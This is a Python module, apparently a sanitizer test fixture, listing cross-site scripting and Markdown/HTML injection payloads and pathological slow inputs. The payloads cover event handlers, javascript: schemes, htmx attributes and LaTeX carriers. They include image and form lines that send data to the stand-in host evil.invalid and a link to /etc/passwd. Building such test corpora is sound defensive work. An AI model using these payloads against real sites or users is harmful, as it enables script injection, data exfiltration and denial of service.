"""Texts that would like to be more than text. Each that could run sets `window.pwned` or asks for another host."""

RUN = "window.pwned=1"
AWAY = "http://evil.invalid/x"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}">',
    f"<svg onload={RUN}>",
    f'<svg><set attributeName=href to="javascript:{RUN}" /><a id=x><text>x</text></a></svg>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<form action={AWAY}><button>Save ranking</button></form>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f'<base href="{AWAY}">',
    f'<link rel=stylesheet href="{AWAY}">',
    f"<style>@import '{AWAY}'; body {{ background: url({AWAY}) }}</style>",
    f'<div style="position:fixed;inset:0;background:url({AWAY})">Rating saved ✓</div>',
    f'<b hx-get="{AWAY}" hx-trigger="load">x</b>',
    '<b data-hx-get="/account" data-hx-trigger="load" data-hx-target="body">x</b>',
    f'<b hx-on::load="{RUN}" hx-on:click="{RUN}">x</b>',
    f'<b hx-vals="js:{{x: {RUN}}}" hx-get="/" hx-trigger="load">x</b>',
    "<input id=csrf name=csrf_token value=x><form id=comparison></form>",
    f"![x]({AWAY}?q=secret)",
    f"![x][ref]\n\n[ref]: {AWAY}",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    "![x](//evil.invalid/x)",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](file:///etc/passwd)",
    f'[x](http://a" onmouseover="{RUN})',
    f"<javascript:{RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"```<img src=x onerror={RUN}>\nx\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    "{{7*7}} ${7*7} <%= 7*7 %> {% raw %}",
    f"\u202e<script>{RUN}</script>\u2066",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]
SLOW = {
    "20,000 quotations": ">" * 20_000,
    "50,000 brackets": "[" * 50_000,
    "50,000 closed brackets": "[" * 25_000 + "]" * 25_000,
    "50,000 backticks": "`" * 50_000,
    "ticks of growing length": " ".join("`" * i for i in range(1, 400)),
    "open emphasis": "*a_" * 20_000,
    "stars": "*" * 60_000,
    "a table of 20,000 columns": "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|b" * 20_000,
    "links in links": "[a](" * 20_000,
    "references": "[a]: b\n" * 10_000,
    "nested lists": "\n".join("  " * i + "- x" for i in range(1000)),
    "dollars": "$" * 50_000,
    "formulas": "$x$ " * 20_000,
    "formulas never closed": "\\(" * 25_000 + "\\[" * 25_000 + "\\[\n" * 5_000,
    "fractions in fractions": "$" + "\\frac{" * 500 + "$",
    "entities": "&" * 100_000,
    "one line of 200 kB": "x" * 199_000,
    "angle brackets": "<" * 100_000,
    "combining marks": "e" + "\u0301" * 100_000,
}


def _corpus() -> list[str]:
    """Each way of beginning something with each way of running something: several hundred, all different."""
    handlers = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onpointerenter",
        "onanimationstart",
        "onbeforematch",
        "OnErRoR",
    ]
    elements = [
        "<img src=x {}>", "<img/src=x/{}/>", "<svg {}>", "<svg><image href=x {}></svg>", "<video src=x {}>",
        "<details open {}>x</details>", "<input autofocus {}>", "<object data=x {}></object>", "<x-y tabindex=1 {}>x</x-y>",
        "<math><mtext {}>x</mtext></math>", "<marquee {}>x</marquee>", "<body {}>", "<select autofocus {}></select>",
    ]  # fmt: skip
    schemes = [
        "javascript:{}", "JavaScript:{}", " javascript:{}", "java\nscript:{}", "java&Tab;script:{}", "&#x6A;avascript:{}",
        "javascript&colon;{}", "\x01javascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "blob:{}", "//evil.invalid/{}",
    ]  # fmt: skip
    carriers = [
        "[x]({})", "[x](<{}>)", "![x]({})", "[x][r]\n\n[r]: {}", "<{}>", '<a href="{}">x</a>', "<iframe src='{}'></iframe>",
        '<form action="{}"><button>x</button></form>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
        '<meta http-equiv="refresh" content="0;url={}">', r"$\href{{{}}}{{x}}$", '<object data="{}"></object>',
    ]  # fmt: skip
    escapes = [
        "'>",
        '">',
        "</textarea>",
        "</title>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "`",
        "\n\n",
        "*/",
        "</template>",
    ]
    formulas = [r"\text{{{}}}", r"\style{{{}}}{{x}}", r"\class{{{}}}{{x}}", r"x_{{{}}}", "{}", r"\mathrm{{</math>{}}}"]
    attributes = [
        "hx-get=/account",
        "hx-post=/sign-out",
        "data-hx-get=/",
        "hx-on:click={0}",
        "hx-trigger=load",
        "style={0}",
    ]
    fills = [f"{RUN}", f"alert({RUN})"]
    made = [element.format(f"{handler}={RUN}") for element in elements for handler in handlers[:6]]
    made += [elements[i % len(elements)].format(f"{name}={RUN}") for i, name in enumerate(handlers * 2)]
    made += [carrier.format(scheme.format(RUN)) for carrier in carriers for scheme in schemes]
    made += [f"{escape}<script>{fill}</script>" for escape in escapes for fill in fills]
    made += [f"${form.format(f'<img src=x onerror={RUN}>')}$" for form in formulas]
    made += [f"\\[{form.format(f'<script>{RUN}</script>')}\\]" for form in formulas]
    made += [f"<b {name.format(RUN)} hx-trigger=load>x</b>" for name in attributes]
    made += [f"```{escape}\n<script>{RUN}</script>\n```" for escape in ("html", "js", "'>", "{.x onload=1}")]
    return list(dict.fromkeys([*PAYLOADS, *made]))


CORPUS = _corpus()
